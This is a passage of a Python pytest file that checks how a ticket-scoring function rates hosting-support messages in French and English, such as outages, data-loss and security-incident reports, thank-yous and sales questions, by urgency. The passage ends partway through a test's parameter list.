def test_a_key_nobody_knows_a_sending_limit_hit_and_dropped_connections_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


def test_the_security_warning_still_there_after_our_answer_is_down_again():
    story = [customer(at(0), "Bonjour, le certificat de elearning.formapro-sud.fr a expiré cette nuit, les stagiaires "
                             "voient une alerte de sécurité."),
             us(at(0, 30), "Bonjour, le renouvellement bloque sur une validation DNS, je règle ça avant 18h30.")]
    assert "down" not in terms(heat(story, at(1)))
    story.append(customer(at(4), "Bonjour Thomas, toujours l'alerte de notre côté. On compte sur vous."))
    assert "down" in terms(heat(story, at(4, 10)))


@pytest.mark.parametrize("text", [
    "Merci beaucoup c'est réparé 👍\n\nah par contre depuis ce matin quand on tape www.lebrun-yoga.fr on tombe sur "
    "l'ancien site, avec les anciens tarifs. Les élèves s'inscrivent sur l'ancien planning...",
    "Thanks, that's done! However since this morning www.lebrun-yoga.com shows the old site with last year's prices.",
])
def test_a_thank_you_followed_by_their_address_serving_the_old_site_is_a_new_outage(text):
    story = [customer(at(0), "Bonjour, pouvez-vous faire pointer lebrun-yoga.fr vers le nouveau dossier ?"),
             us(at(2), "Bonjour, c'est fait : la racine pointe maintenant vers /nouveau-site."),
             customer(at(20), text)]
    h = heat(story, at(21))
    assert "down" in terms(h) and not h.probably_done


@pytest.mark.parametrize("text, term", [
    ("Bonjour, nous observons depuis 18h des réponses SERVFAIL pour notre domaine sur certains résolveurs.\n\n"
     "$ dig @9.9.9.9 hopital-riviera-chablais.ch A\n;; ->>HEADER<<- opcode: QUERY, status: SERVFAIL", "down"),
    ("Bonjour, j'ai changé de téléphone et je ne peux plus me connecter à l'espace client.", "down"),
    ("Hello, volunteers say that when they click on our website from Google it goes to a page selling pills. "
     "When I type the address myself it looks normal.", "risk"),
    ("Hello, any news? The dashboard still shows the secondary stuck at Saturday 02:10.", "risk"),
])
def test_a_domain_failing_to_resolve_a_lost_login_a_pharma_hack_and_a_stalled_replica_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Hi, customers are getting our \"You left something in your basket\" email over and over. One lady has had 14 "
    "since 3am.",
    "Bonjour, j'ai compté six commandes confirmées par mail qui n'existent pas chez nous. Est-ce que certains "
    "clients tombent encore sur l'ancien serveur ?",
])
def test_a_mail_sent_in_a_loop_and_orders_taken_by_the_old_server_are_risks(text):
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, term", [
    ("Bonjour, ma boîte mail est vide depuis la migration : je n'ai plus que les mails reçus depuis dimanche.",
     "risk"),
    ("Hi, since the migration my inbox is empty: only this week's mail is left.", "risk"),
    ("Bonjour, la clôture automatique qui tourne à 2h30 n'a pas eu lieu cette nuit. Le logiciel est bloqué au 27/03.",
     "down"),
    ("Bonjour, depuis 3h tous les appels tombent sur le message « nous sommes fermés ».", "down"),
    ("Hi, our app throws: The MySQL server is running with the --super-read-only option so it cannot execute "
     "this statement", "down"),
])
def test_an_emptied_mailbox_a_nightly_close_not_run_and_what_stopped_coming_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text, term", [
    ("I opened a ticket yesterday about our product images (all 404 since your migration). No pictures, no sales.",
     "down"),
    ("Bonjour, j'ai supprimé par erreur un dossier : le site de l'association n'a plus aucune image.", "down"),
    ("Bonjour, les photos de 34 produits ne sont plus dans la médiathèque et nous n'avons plus les originaux.",
     "risk"),
    ("Bonjour, des clients ont reçu le mail de confirmation mais je ne vois pas leurs commandes dans "
     "l'administration.", "risk"),
    ("Bonjour, les mails que nous recevons arrivent avec beaucoup de retard : écrit à 14h02, reçu à 20h10.", "slow"),
])
def test_images_gone_files_with_no_other_copy_orders_unseen_and_late_mail_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Bonjour, petite question : la liste des sauvegardes indique \"0 Mo\" pour chaque jour depuis le 15 janvier, "
    "avant c'était environ 2,3 Go. C'est normal ?",
    "Hello, we see sustained SSH brute-force attempts from 51.x.x.17 (in your network). If this continues we will "
    "block your /24 at our edge.",
    "Bonsoir, je m'aperçois qu'il manque dans la boutique les commandes du jour, environ 160. Elles ont été payées "
    "(je les vois chez PayPlug) mais n'existent plus dans le back-office.",
    "Bonjour, voici le journal :\n\n0081.117 (0) MySQL server log: [ERROR] [InnoDB] Database page corruption on "
    "disk or a failed file read of tablespace lefort_wp/wp_wc_orders\n\nCe n'est pas urgent.",
    "Bonsoir, en cherchant notre nom sur Google je suis tombé sur un lien vers notre export clients : le fichier "
    "s'ouvre sans mot de passe !",
])
def test_empty_backups_an_abuse_desk_lost_orders_corrupt_pages_and_an_open_customer_file_are_risks(text):
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("thanks", [
    "Merci Julie, impeccable comme toujours. La mise en ligne s'est très bien passée.\nAntoine",
    "Thanks Julie, the launch went very well.\nAntoine",
])
def test_a_thank_you_saying_what_they_wrote_for_went_well_closes_the_case(thanks):
    asked = customer(at(0), "Bonjour, voici les 340 redirections à mettre en place avant la mise en ligne de jeudi.")
    done = us(at(4), "Bonjour, c'est fait : les 340 redirections sont en place et testées.")
    h = heat([asked, done, customer(at(30), thanks)], at(24 * 11))
    assert h.probably_done and "deadline" not in terms(h)


@pytest.mark.parametrize("text, term", [
    ("Hi, not urgent as such: our nightly sync failed halfway through with \"server closed the connection "
     "unexpectedly\". Partial data may have been written.", "risk"),
    ("Bonjour, on doit envoyer ce soir notre newsletter mais au test on a eu \"quota d'envoi horaire dépassé "
     "(500/h)\".", "down"),
])
def test_a_write_cut_halfway_and_an_hourly_sending_quota_are_read(text, term):
    assert term in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Thanks Marc. Our Companies House address changed in October – will that slow validation down?",
    "Sorry, I got angry earlier. I've calmed down, just tell me when the migration can happen.",
    "I wrote the new IP down, we'll change the record on our side tomorrow.",
])
def test_down_in_a_verb_that_says_nothing_is_down_is_not_read_as_an_outage(text):
    h = terms(heat([customer(at(0), text)], at(1)))
    assert "down" not in h and "'down'" not in h.get("words", "")


@pytest.mark.parametrize("text", [
    "I was adding a record in the DNS zone editor and after I clicked Save everything stopped: website, email, "
    "online shop.",
    "The site turned out to be down all night.",
    "J'ai ajouté un enregistrement dans la zone et tout s'est arrêté : site, mails, boutique.",
])
def test_everything_stopped_is_down(text):
    assert "down" in terms(heat([customer(at(0), text)], at(1)))


@pytest.mark.parametrize("text", [
    "Bon, le site refonctionne depuis 5h environ, les pages s'affichent. Merci.",
    "Tout refonctionne, merci pour votre aide.",
])
def test_it_works_again_without_ca_closes_the_case(text):
    h = heat([customer(at(0), "Notre site ne répond plus."), us(at(0, 10)), customer(at(2), text)], at(3))
    assert h.probably_done


def test_an_apology_for_their_tone_with_it_works_again_closes_the_case():
    shouted = customer(at(0), "NOTRE SITE NE RÉPOND PLUS DU TOUT !!! RÉPAREZ ÇA IMMÉDIATEMENT !!!!")
    told = us(at(0, 10), "Hello, we are aware of a storage incident affecting your VM. Our team is working on it.")
    sorry = customer(at(2, 40), "Bon, le site refonctionne depuis 5h environ, les pages s'affichent et une commande "
                                "test est passée. Merci, et désolé pour le ton de mon premier message, j'ai paniqué. "
                                "La prochaine fois, un mail en français serait apprécié.\n\nFabrice Lenoir")
    h = heat([shouted, told, sorry], at(5), incident_open=True)
    # ("une commande test est passée": the test they ran on it went through, a closing too)
    assert h.probably_done and terms(h)["done"] == "probably done: they said 'site refonctionne', 'test est passé'"


def test_an_apology_for_their_tone_adds_no_words_unless_a_but_brings_a_new_complaint():
    first = customer(at(0), "Our bookings page gives a 502.")
    calm = heat([first, customer(at(1), "Sorry for the rant earlier, I was frustrated. Any news on the restore?")], at(2))
    plain = heat([first, customer(at(1), "Any news on the restore?")], at(2))
    assert terms(calm).get("words") == terms(plain).get("words")
    angry = heat([first, customer(at(1), "Désolé pour le ton, mais c'est la troisième fois que le site tombe !!!")],
                 at(2))
    assert "troisième fois" in terms(angry)["words"]


def test_a_customer_saying_nothing_is_broken_is_not_lifted_by_the_incident():
    calm = customer(at(0), "Hi, got paged for slow response times. Our VMs feel sluggish since last night, I assume "
                           "it's the storage incident. Nothing broken, just slower. Keep us posted, no need to call.")
    slow = customer(at(0), "Hi, got paged for slow response times. Our VMs feel sluggish since last night, I assume "
                           "it's the storage incident. Keep us posted, no need to call.")
    told = terms(heat([calm], at(4), incident_open=True))
    assert told["incident"] == "linked to an open incident" and "nothing broken" in told["calm"]
    assert (heat([calm], at(4), incident_open=True).score < WEIGHTS.incident_floor
            <= heat([slow], at(4), incident_open=True).score)


@pytest.mark.parametrize("text", [
    "Merci beaucoup, le site remarche ! Par contre, depuis la restauration, toutes les commandes passées entre le 2 "
    "et le 3 janvier ont disparu de l'administration.",
    "Thanks, the site is back. But the bookings our guests made over the weekend have all disappeared.",
])
def test_their_data_named_then_said_gone_further_on_is_at_risk(text):
    story = [customer(at(0), "Bonjour, notre boutique affiche une erreur."), us(at(1), "Restauré, c'est en ligne."),
             customer(at(20), text)]
    h = heat(story, at(21))
    assert "risk" in terms(h) and not h.probably_done


def test_error_messages_gone_is_no_loss():
    h = heat([customer(at(0), "Le site affiche une erreur."), us(at(1)),
              customer(at(2), "Merci, les messages d'erreur ont disparu, tout fonctionne.")], at(3))
    assert "risk" not in terms(h) and h.probably_done


@pytest.mark.parametrize("text", [
    "Hi, portal.doyleandquinn.ie shows a page saying 'It works! This is the default web page for this server' "
    "instead of our client portal. Clients upload their signed documents there.",
    "Bonjour, la page d'accueil affiche « Tout fonctionne ! Page par défaut du serveur » au lieu de notre boutique.",
])
def test_a_closing_quoted_from_what_a_page_shows_does_not_close(text):
    for story in ([customer(at(0), text)], [customer(at(0)), us(at(1)), customer(at(2), text)]):
        h = heat(story, at(3))
        assert not h.probably_done and "waiting" in terms(h)


def test_it_works_one_way_in_beside_a_casino_redirect_is_no_closing():
    text = ("Bonsoir,\nQuand on tape notre adresse dans Google et qu'on clique, on arrive sur un site de casino en "
            "ligne !\nEn tapant l'adresse directement ça marche. Nous n'avons rien installé.")
    h = heat([customer(at(0), text)], at(1))
    assert not h.probably_done and "risk" in terms(h)


@pytest.mark.parametrize("text", [
    "Un client vient de m'appeler, il pense qu'on s'est fait pirater et n'ose plus nous envoyer ses coordonnées.",
    "Hi, I ran a database cleanup plugin and it dropped wp_wc_orders. Please restore last night's backup.",
])
def test_hacked_said_with_se_faire_and_a_table_dropped_by_its_name_are_risks(text):
    assert "risk" in terms(heat([customer(at(0), text)], at(1)))


def test_that_s_sorted_closes_the_case():
    h = heat([customer(at(0), "Our nightly stock sync cron didn't run."), us(at(1)),
              customer(at(2), "Brilliant, thanks Priya, that's sorted.")], at(3))
    assert h.probably_done


def test_down_every_few_minutes_after_our_question_is_still_down():
    story = [customer(at(0), "Morning, our site keeps going offline with 'Resource Limit Is Reached - 508'."),
             us(at(0, 40), "Hi Carol, that means the account is hitting its CPU limit. Have you had a traffic spike?"),
             customer(at(5, 50), "Still dropping every 10-15 minutes. Three customers have rung to say their basket "
                                 "emptied itself.")]
    assert "down" in terms(heat(story, at(6)))


def test_a_note_saying_nothing_else_is_needed_parks_the_case():
    story = [customer(at(0), "Hi, a few of our staff got a phishing mail using your name. Nobody clicked."),
             us(at(1), "Thanks Emma, that's phishing indeed; I've passed the domain to our abuse team."),
             customer(at(1, 15), "Great, thanks. Could you confirm once it's removed? Just for our records."),
             note(at(6), "Registrar confirmed removal at 17:02 BST. Tell Emma on Monday, nothing else needed.")]
    h = terms(heat(story, at(6, 20)))
    assert h["cooling"].startswith("parked: an engineer noted")


def pingdom(when, site, still=False):
    state = "is still down" if still else "is down since 16/03/2027 12:59:44 UTC"
    return Event(when, "message", "in", "Pingdom Alerts", f"PingdomAlert DOWN: {site} ({site}) {state}. Reason: "
                                                          "Connection refused", "email")


def test_a_monitoring_tool_mailing_support_is_read_like_its_note_not_as_the_customer_writing():
    told = [customer(at(0), "Hi Rachel, FYI we're switching staging off on purpose until April. Our monitoring tool "
                            "will email support@ about it every 15 minutes, please just ignore those."),
            us(at(1), "Thanks Gavin, noted: we'll ignore staging alerts until April.")]
    alerts = [pingdom(at(23), "staging.priceandfield.com"),
              *(pingdom(at(23, 15 * n), "staging.priceandfield.com", still=True) for n in (1, 2, 3))]
    h = terms(heat(told + alerts, at(24)))
    assert not {"waiting", "chased", "repeats", "words"} & set(h)
    # ...and one saying production is down still counts, as the monitoring's note does.
    live = terms(heat(told + [pingdom(at(23), "www.priceandfield.com")], at(24)))
    assert "down" in live and "waiting" not in live


def test_no_longer_receiving_quote_requests_said_with_the_infinitive_is_down_not_a_sales_matter():
    text = ("Bonjour,\n\nCe n'est sans doute pas urgent, mais nous nous étonnons de ne plus recevoir de demandes de "
            "devis par le formulaire du site depuis vendredi. D'habitude on en a 5 à 10 par jour.\nMerci de regarder "
            "quand vous pourrez.")
    h = terms(heat([customer(at(0), text)], at(4)))
    assert "down" in h and "sales" not in h


def test_a_launch_said_after_a_domain_expiry_notice_never_weighs_less_than_the_expiry_alone():
    # Found by the property tests: the nearer launch replaced the expiry, and with it the expiry's heavier weight
    # (what breaks at it).
    expiry = Event(at(0), "action", "internal", "billing",
                   "Auto-renewal failed for garage.fr: card expired. Domain expires 2026-11-27 23:59 UTC.", "tool")
    # Written on the 26th at 00:00: tomorrow 8:00 is 31 h away, the expiry 47 h.
    asked = customer(at(47), "La mise en ligne est demain à 8h : il nous faut le certificat avant.")
    alone, both = heat([expiry], at(48)), heat([expiry, asked], at(48))
    alone_points, both_points = (next(t.points for t in h.terms if t.name == "deadline") for h in (alone, both))
    assert both_points >= alone_points and both.score >= alone.score


def test_our_reply_saying_it_is_still_broken_leaves_it_broken():
    bounced = customer(at(0), "Hi, since this morning our invoices to clients bounce:\n\n"
                              "550 5.7.1 Client host [198.51.100.25] blocked using zen.spamhaus.org\n\nKate")
    sorry = us(at(3), "Still listed I'm afraid, delisting usually takes a few hours. Sorry.", name="ben")
    asked = customer(at(4), "Could you move us to a different relay in the meantime? Our accounts team leaves at "
                            "5:30.")
    h = heat([bounced, sorry, asked], at(4, 30), tier="business")
    assert terms(h)["down"].startswith("said it is down: 'bounce'")
    # A reply saying it works again answers it: what they said was down is theirs to say again.
    fixed = us(at(3), "We're delisted and mail flows again.", name="ben")
    assert "down" not in terms(heat([bounced, fixed, asked], at(4, 30), tier="business"))


@pytest.mark.parametrize("text", [
    "Hi, our VMs in LIL2 seem fine, just a little slower. Will tonight's backups run normally?",
    "Bonsoir, nos VM bi-01 et bi-02 sont lentes ce soir. Nos services tournent normalement, c'est pour suivi.",
])
def test_a_customer_whose_services_run_is_not_lifted_by_the_incident(text):
    told = heat([customer(at(0), text), update(at(1), "[Incident LIL2] Reconstruction à 68 %.")], at(1, 30),
                tier="critical", incident_open=True)
    assert "calm" in terms(told) and told.score < WEIGHTS.incident_floor


@pytest.mark.parametrize("text", ["Vu, on constate déjà une amélioration. Merci Karim.",
                                  "Thanks Karim, we're already seeing an improvement."])
def test_a_customer_seeing_it_improve_while_we_work_is_their_move(text):
    story = [customer(at(0), "Bonsoir, notre plateforme de réservation est très lente depuis 20h."),
             us(at(1), "Vos VM sont sur le nœud dégradé, je suis le dossier personnellement. La reconstruction est "
                       "à 68 %.", name="karim"),
             customer(at(1, 5), text)]
    h = heat(story, at(1, 30), tier="critical", incident_open=True)
    assert "waiting" not in terms(h) and h.score < WEIGHTS.incident_floor


@pytest.mark.parametrize("again", [
    "Ce n'est pas le cache, ça arrive sur tous les postes de l'agence et chez nos clients.",
    "We did that, no change. Bookings for February are going out right now.",
    "Ça n'a rien changé, les réservations partent en ce moment.",
])
def test_saying_our_answer_changed_nothing_is_what_was_down_said_again(again):
    story = [customer(at(0), "Bonjour, nos clients ont une page « Attention : risque probable de sécurité » en allant "
                             "sur www.lambert-voyages.fr."),
             us(at(1), "Le certificat a bien été renouvelé vendredi. Videz le cache de votre navigateur."),
             customer(at(20), again)]
    h = heat(story, at(21))
    assert terms(h)["down"] == "said it is down: 'risque probable de sécurité'"
    # A new question after the same answer is only a question.
    asked = heat(story[:2] + [customer(at(20), "Merci. Et pour l'alias contact@, c'est possible ?")], at(21))
    assert "down" not in terms(asked)


@pytest.mark.parametrize("holding", [
    "Hello Laurent, thank you for the details, we are looking into it. Regards, Wei",
    "Hi Dev, sorry for the wait. I've flagged your ticket to the on-call team, someone will contact you shortly.",
    "Bonjour, nous examinons votre demande avec l'équipe DNS.",
    "Bonjour Madame, nous regardons.",
])
def test_we_are_looking_into_it_is_a_holding_reply_and_what_is_down_stays_down(holding):
    down = customer(at(0), "Bonjour, depuis 01h30 notre domaine ne se résout plus chez une partie de nos clients "
                           "(dig: status SERVFAIL).")
    h = heat([down, us(at(0, 30), holding, "wei")], at(1))
    assert terms(h)["down"] == "said it is down: 'ne se résout plus', 'servfail'"


@pytest.mark.parametrize("text, down", [
    ("Notre serveur de caisses semble avoir été éteint cette nuit : six boutiques n'encaissent qu'en espèces.",
     "'qu'en espèces', 'été éteint'"),
    ("Our results notification service hasn't sent anything since the broker came back at 04:40.",
     "'hasn't sent anything'"),
    ("After the restart three of our five Kubernetes workers are NotReady.", "'notready'"),
])
def test_a_service_left_off_after_a_restart_is_down(text, down):
    assert terms(heat([customer(at(0), text)], at(1)))["down"] == f"said it is down: {down}"


def test_a_mail_migration_that_brought_back_only_part_of_the_mail_is_at_risk():
    text = ("Suite à la migration, trois boîtes sur six n'ont récupéré que les mails depuis janvier : les devis et "
            "acomptes de nos clients de 2025 manquent.")
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["risk"] == "said data or security is at risk: 'n'ont récupéré que'" and "sales" not in terms(h)


@pytest.mark.parametrize("thanks", ["Ok thanks", "Ok thanks again", "Merci", "Encore merci !"])
def test_a_thank_you_with_its_again_is_still_only_a_thank_you(thanks):
    """Hypothesis found 'Ok thanks again' cooler than 'Ok thanks' ('again' is a frustration word, 'thanks again'
    read as calm instead of their move): adding a frustration word must never cool a case."""
    h = heat([customer(at(0)), us(at(1)), customer(at(2), thanks), us(at(3))], at(4))
    assert terms(h)["cooling"] == "their move: they only said thanks" and "calm" not in terms(h)


@pytest.mark.parametrize("text", [
    "Just logging this for our records: the odd 'Lost connection to MySQL server' this morning. We've seen your "
    "status page, so no need to reply individually.",
    "Pour notre rapport mensuel : quelques erreurs de base ce matin, nous avons vu la page d'état. Pas besoin de "
    "réponse.",
])
def test_a_record_they_want_no_answer_to_is_calm_and_not_lifted_by_the_incident(text):
    h = heat([customer(at(0), text)], at(1), tier="business", incident_open=True)
    assert "calm" in terms(h) and h.score < WEIGHTS.incident_floor


@pytest.mark.parametrize("text, said", [
    # Their card payments, named with how they pay.
    ("Depuis ce matin les paiements CB échouent sur la boutique.", "'les paiements cb echouent'"),
    ("Bonjour, le paiement par carte ne passe plus depuis 9h.", "'le paiement par carte ne passe plus'"),
    # A share of what is done there fails.
    ("Roughly 1 in 5 requests on the booking app fail. Tonight is a big night.",
     "'1 in 5 requests on the booking app fail'"),
    # Mail that no longer goes, or is refused.
    ("Toujours impossible d'envoyer. J'ai dû passer par mon Gmail perso.", "'impossible d'envoyer'"),
    ("Une partie de nos mails est rejetée par Gmail (environ 1 sur 3).", "'rejetée par'"),
    ("Plus aucune messagerie depuis 8h, les patients nous écrivent pour les rendez-vous.",
     "'plus aucune messagerie'"),
    # A certificate the browser refuses.
    ("Voici la capture : « Ce certificat n'est pas valide, délivré pour *.ancien-hebergeur.net ».",
     "'certificat n'est pas valide'"),
    ("Our customers' phones say the certificate is not valid for shop.example.com.", "'certificate is not valid'"),
    # The server answers with its default page.
    ("Since the reboot every one of our sites shows the default page of Apache.", "'shows the default page'"),
    # A tunnel that no longer comes up.
    ("Le VPN entre l'agence et le serveur Sage ne monte plus depuis ce matin.", "'ne monte plus'"),
])
def test_payments_mail_or_a_share_of_requests_failing_and_a_refused_certificate_read_as_down(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["down"] == f"said it is down: {said}"
    assert h.score > heat([customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks.")], at(1)).score


@pytest.mark.parametrize("calm, trouble", [
    ("Everything has been super smooth all weekend, record sales and not a single hiccup. Thank you Inès!",
     "Since the update not a single order has come in."),
    ("Pas un seul souci de tout le week-end, merci !", "Pas une seule commande depuis ce matin."),
    ("Tuesday for scaling back down is perfect.", "The shop is down since this morning."),
])
def test_not_a_single_hiccup_or_scaling_down_is_no_outage(calm, trouble):
    h = terms(heat([customer(at(0), calm)], at(1)))
    assert "down" not in h and "'down'" not in h.get("words", "")
    assert "down" in terms(heat([customer(at(0), trouble)], at(1)))


@pytest.mark.parametrize("text", [
    "Hi, our nightly backup is scheduled at 02:00 CET, which was during your outage. Could you confirm whether it "
    "ran? Our services are fine otherwise.",
    "Hello, I logged in to check things after your outage mail, all looks normal. Where can I read the report?",
    "Following the 40-minute outage on 12 December, our account manager mentioned a service credit. No urgency.",
])
def test_our_outage_named_as_a_moment_or_by_our_mail_about_it_is_not_theirs_down(text):
    assert "down" not in terms(heat([customer(at(0), text)], at(1)))
    assert "down" in terms(heat([customer(at(0), text + " And the site is down again right now!")], at(1)))


@pytest.mark.parametrize("text, said", [
    ("Sorry, probably nothing, but our payment provider says our checkout page loads a script from an unrecognised "
     "domain. We didn't add anything like that. No rush.", "'unrecognised domain', 'we didn't add'"),
    ("Wordfence says admin logged in at 04:12 while I was asleep. Also there is a plugin I don't remember "
     "installing.", "'don't remember installing'"),
    ("Alerte reçue : connexion inhabituelle à l'espace client, puis 2FA désactivée à 14:52.",
     "'2fa désactivée', 'connexion inhabituelle'"),
    ("Notre page d'accueil affiche un message injurieux et un lien vers un concurrent.", "'message injurieux'"),
    ("Since the reboot our MySQL port is exposed to the internet, someone told us.", "'exposed to the internet'"),
    # Their customers' cards in a fraud report, a file nobody there put on the server.
    ("Sorry, probably nothing. Our payment provider says several cards used on our store showed up in a 'common "
     "point of purchase' fraud report and asked us to check for unauthorised changes.",
     "'common point of purchase', 'fraud report', 'unauthorised changes'"),
    # Their visitors shown someone else's cart and address.
    ("C'est grave : deux clients voient le panier ET l'adresse de livraison de quelqu'un d'autre.",
     "'de quelqu'un d'autre'"),
    # Their mailbox emptied.
    ("Ce matin en ouvrant Thunderbird, ma boîte de réception est vide, ainsi que les dossiers. Dix ans de mails.",
     "'boîte de réception est vide'"),
    # An abuse desk reporting spam sent from their server.
    ("[Abuse] Spam originating from 51.xx.xx.203: your order #88213 is on hold, verify your payment.",
     "'spam originating from'"),
    ("Our office manager clicked and logged in with her control-panel credentials before she got suspicious.",
     "'got suspicious'"),
])
def test_what_nobody_on_their_side_installed_or_did_and_a_service_open_to_anyone_are_at_risk(text, said):
    h = heat([customer(at(0), text)], at(1))
    assert terms(h)["risk"] == f"said data or security is at risk: {said}"
    assert h.score > heat([customer(at(0), "Hi, could you add an SFTP user for our designer? Thanks.")], at(1)).score


@pytest.mark.parametrize("text, down", [
    ("Since last week several of our customers have told us they haven't received their invoices.",
     "customers have told us they haven't received their invoices"),
    ("D'accord, bloquez. Mais nos confirmations de ce soir ? Les clients n'ont rien reçu.", "clients n'ont rien recu"),
    ("Hi, we haven't received a single external email since 12:10 CET. Internal mail works.",
     "haven't received a single external email since"),
])
def test_what_their_customers_or_the_outside_world_no_longer_get_reads_as_down(text, down):
    assert terms(heat([customer(at(0), text)], at(1)))["down"].startswith(f"said it is down: '{down}")
    assert "down" not in terms(heat([customer(at(0), "Merci, j'ai bien reçu la facture.")], at(1)))


def test_a_mail_server_s_verdict_that_their_mail_fails_authentication_is_slow():
    h = heat([customer(at(0), "Depuis ce matin nos factures arrivent en spam chez Orange. Nos tests montrent "
                              "'dkim=fail (no key for signature)'.")], at(1))
    assert terms(h)["slow"] == "said it is slow or nearly full: 'dkim=fail'"
    assert "slow" not in terms(heat([customer(at(0), "Nos tests montrent 'dkim=pass' partout, merci.")], at(1)))


def test_the_way_through_the_panel_answers_a_how_to_question_not_a_broken_site():
    reply = ("Hi Derek, yes: Panel > Backups > Schedules, guide here: https://docs.example.net/backups/schedule . "
             "Tell me if you get stuck. Camille")
    asked = customer(at(0), "Hi, is there a way to schedule an extra daily backup of my database myself? Thanks")
    answered = heat([asked, us(at(1), reply)], at(20))
    assert "waiting" not in terms(answered) and "bounced" not in terms(answered)
    # The same kind of reply to a site showing a security alert leaves them to mend it alone: the clock runs.
    broken = customer(at(0), "Depuis ce matin notre site affiche « Votre connexion n'est pas privée ».")
    bounced = heat([broken, us(at(1), "Vous pouvez générer un certificat depuis votre espace client, rubrique "
                                      "Hébergement > Certificats > Let's Encrypt. Documentation : "
                                      "https://docs.example.net/tls/activer-letsencrypt")], at(20))
    assert terms(bounced)["waiting"] == "waiting 20 h" and "bounced" in terms(bounced)


@pytest.mark.parametrize("text, said", [
    # Backups that report OK at no size at all.
    ("Hello, the backup emails you send every night say 0 B since Tuesday. Status says OK though. Is that normal?",
     "'0 b'"),
    ("Les sauvegardes font 0 octet depuis mardi, c'est normal ?", "'0 octet'"),
    # A dump of their data anyone can fetch from their site, named by its address.
    ("Hi, a parent emailed us saying he could download www.kidsclub.co.uk/db_backup_2027-02.sql from our site. Is "
     "that a problem?", "'download www.kidsclub.co.uk/db_backup_2027-02.sql'"),
    # A migration half done: orders taken on both sides.
    ("It's Monday morning and orders keep arriving on both sides. Our stock counts are wrong and we've sold the same "
     "bike twice.", "'sold the same', 'stock counts are wrong'"),
    ("Des clients nous appellent pour des commandes passées ce week-end qu'on ne retrouve pas dans le back-office.",
     "'qu'on ne retrouve pas'"),
])
def test_empty_backups_a_dump_anyone_can_fetch_and_orders_split_or_lost_are_at_risk(text, said):
    assert terms(heat([customer(at(0), text)], at(1)))["risk"] == f"said data or security is at risk: {said}"


def test_their_own_dump_they_ask_how_to_fetch_is_no_risk():
    assert "risk" not in terms(heat([customer(at(0), "How can I download my backup.sql from the panel?")], at(1)))


@pytest.mark.parametrize("text", [
    "Thanks Jonas, mail works now! Small thing, not sure if related: since your change /checkout gives '403 "
    "Forbidden'. The rest of the site is fine. Have a nice Sunday!",
    "Merci, les mails partent de nouveau. Petit souci, je ne sais pas si c'est lié : la page paiement renvoie 403.",
])
def test_a_thank_you_that_brings_up_something_new_does_not_close(text):
    story = [customer(at(0), "Hi, order emails from the shop stopped going out yesterday."),
             us(at(20), "Hi, I switched the shop to the authenticated relay. Emails should flow now.")]
    h = heat([*story, customer(at(22), text)], at(23))
    assert not h.probably_done and "waiting" in terms(h)
    assert heat([*story, customer(at(22), "Thanks Jonas, mail works now! Have a nice Sunday!")], at(23)).probably_done


def test_a_quote_asked_for_is_a_sales_matter_and_a_quoted_error_is_not():
    quote = heat([customer(at(0), "Hi, we'd like to plan a RAM upgrade on db-01 in Q2. Could you send a quote and "
                                  "the expected downtime?")], at(24))
    assert terms(quote)["sales"].endswith("'send a quote'")
    error = heat([customer(at(0), "Hi, to quote the error our app shows: 'connection refused'.")], at(24))
    assert "sales" not in terms(error)


@pytest.mark.parametrize("text", [
    # A quote signed: the work is sold, and ours to deliver.
    "Bonjour, nous lançons la collection jeudi. Nous avions convenu d'une assistance à la bascule (devis D-2026-318 "
    "signé). Qui sera présent ?",
    "Hi, per our signed quotation you set up the replica this week. When can we start?",
    # Their own customers' quote requests are their business flowing, not a quote asked of us.
    "Bonjour, pouvez-vous envoyer les demandes de devis du formulaire du site vers commercial@ plutôt que vers moi ?",
])
def test_a_signed_quote_or_their_own_customers_quote_requests_are_no_sales_matter(text):
    assert "sales" not in terms(heat([customer(at(0), text)], at(4)))


@pytest.mark.parametrize("text, said", [
    # The page a suspended account shows, quoted.
    ("Notre site affiche 'Service suspendu' depuis ce midi. La facture a pourtant été réglée le 2 avril.",
     "'service suspendu'"),
    # Visitors still sent to the old server or its maintenance page after a migration.
    ("After last night's migration roughly 40% of visitors still land on the old maintenance page.",
     "'land on the old'"),
    ("Depuis la migration, la moitié des clients tombent sur la page de maintenance.",
     "'tombent sur la page de maintenance'"),
    # Scheduled jobs that no longer run, and their members locked out.
    ("None of our cron jobs on app-01 have run since Friday. Crond seems to be running, but nothing fires.",
     "'none of our cron jobs', 'nothing fires'"),
    ("Since this morning the password-reset emails from our portal don't come: members are locked out.",
     "'members are locked out'"),
    # The disk under them takes no more writes.
    ("Our support platform can't save tickets since 9:50. 30 agents are typing notes in Notepad.", "'can't save'"),
    ("Depuis ce matin notre application de stock n'arrive plus à enregistrer quoi que ce soit, voici l'erreur :\n\n"
     "  ERROR 1030 (HY000): Got error 30 \"Read-only file system\" from storage engine InnoDB",
     "'n'arrive plus à enregistrer', 'read-only file system'"),
])
def test_a_suspended_page_an_old_server_stopped_jobs_locked_out_members_and_refused_writes_read_as_down(text, said):
    assert terms(heat([customer(at(0), text)], at(1)))["down"] == f"said it is down: {said}"


def test_none_of_the_mails_a_business_sends_arriving_reads_as_down():
    text = "Since this morning none of the order confirmation emails from our shop arrive."
    assert terms(heat([customer(at(0), text)], at(1)))["down"].startswith("said it is down: 'none of the order")


def test_saying_our_answer_is_very_clear_closes():
    story = [customer(at(0), "La maintenance de jeudi concerne-t-elle aussi nos liens vers Lille ?"),
             us(at(1), "Bonjour Marc, uniquement Paris-2 : vos liens vers Lille ne sont pas concernés.")]
    assert heat([*story, customer(at(2), "Parfait, merci beaucoup Sophie, c'est très clair. Bonne journée !")],
                at(6)).probably_done


@pytest.mark.parametrize("alert, said", [
    ("ALERT srv-ged-01 /data 97% (+3%/h). Projection: 100% in ~1h.", "'/data 97%'"),
    ("PROBLEM: Free disk space is less than 5% on volume /var/lib/mysql (db-01) – used 95.1%",
